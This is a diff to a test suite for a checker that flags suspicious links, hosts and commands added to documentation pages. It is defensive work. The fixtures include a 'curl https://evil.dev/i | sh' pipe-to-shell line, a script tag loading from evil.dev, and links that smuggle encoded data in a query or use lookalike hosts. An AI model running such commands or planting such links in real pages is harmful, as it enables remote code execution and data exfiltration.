@@ -39,6 +39,21 @@ test.each([
   ["a comment in a sample", "```js\n//evil.code is a comment\nrun();\n```"],
   ["a command that removes a build", "```sh\nrm -rf dist\nrm -rf ./build node_modules\n```"],
   ["emoji", "Done ✔️ and ⚠️ and 1️⃣."],
+  [
+    "a link to the documentation of a language",
+    "See [paths](https://docs.python.org/3/library/os.html#os.PathLike).",
+  ],
+  ["a link to a package of Go's standard library", "A [false value](https://pkg.go.dev/strconv#ParseBool)."],
+  [
+    "an archived copy of a page of a known host",
+    "See [it](https://web.archive.org/web/20251006142253/https://known.dev/talk).",
+  ],
+  ["a list of paths", "It prints `/home/me/.local/bin:/usr/bin`."],
+  ["an item of Rust", "See [the trait](crate::run::Run) and [the list](std::vec::Vec)."],
+  [
+    "a tag that begins in a sample and does not end there",
+    "```ruby\n<<EOS.strip\n  text\nEOS\n```\n\nIt is > 1.",
+  ],
   ["a download that is not run", "```sh\ncurl -LO https://known.dev/file.tgz\ntar xf file.tgz\n```"],
 ])("lets pass: %s", async (_, text) => {
   expect(await judge(`${before}\n${text}\n`)).toEqual([]);
@@ -47,4 +62,30 @@ test.each([
 test("a tag, a host or a command that stood on the page may stay", async () => {
   const old = `${before}\n<script src="https://evil.dev/a.js"></script>\n\n    curl https://evil.dev/i | sh\n`;
   expect(await judge(old.replace("a path", "two paths"), { old })).toEqual([]);
+});
+
+test("a link of the site's own scheme to a file passes if the page had links of that scheme", async () => {
+  const old = `${before}\n[summary](docblock://src/cli.ts?token=run)\n`;
+  expect(await judge(`${old}\n[more](docblock://cli.ts?token=run.more)\n`, { old })).toEqual([]);
+  expect(await judge(`${old}\n[more](docblock://evil.dev/x)\n`, { old })).not.toEqual([]);
+  expect(await judge(`${old}\n[more](vscode://cli.ts?token=run)\n`, { old })).not.toEqual([]);
+  expect(await judge(`${before}\n[more](docblock://cli.ts?token=run)\n`)).not.toEqual([]);
+});
+
+test.each([
+  ["an image", "![x](https://docs.python.org/x.png)"],
+  ["a query", "[x](https://docs.python.org/3/?q=c2VjcmV0)"],
+  ["a user name", "[x](https://me@docs.python.org/3/)"],
+  ["another port", "[x](https://docs.python.org:8443/3/)"],
+  ["a page without encryption", "[x](http://docs.python.org/3/)"],
+  ["a similar host", "[x](https://docs.python.org.evil.dev/3/)"],
+  ["a part that other people write", "[x](https://go.dev/play/p/abc)"],
+  ["a package of another owner", "[x](https://pkg.go.dev/github.com/evil/mod)"],
+  ["a command", "```sh\ncurl -LO https://docs.python.org/x\n```"],
+  ["an archived copy of another host", "[x](https://web.archive.org/web/2025/https://evil.dev/x)"],
+  ["an archived copy with a query", "[x](https://web.archive.org/web/2025/https://known.dev/x?q=1)"],
+  ["the archive itself", "[x](https://web.archive.org/save/https://known.dev/x)"],
+  ["an item of Rust in another scheme", "[x](vscode::extension::evil)"],
+])("the list of references does not let pass %s", async (_, text) => {
+  expect(await judge(`${before}\n${text}\n`)).not.toEqual([]);
 });
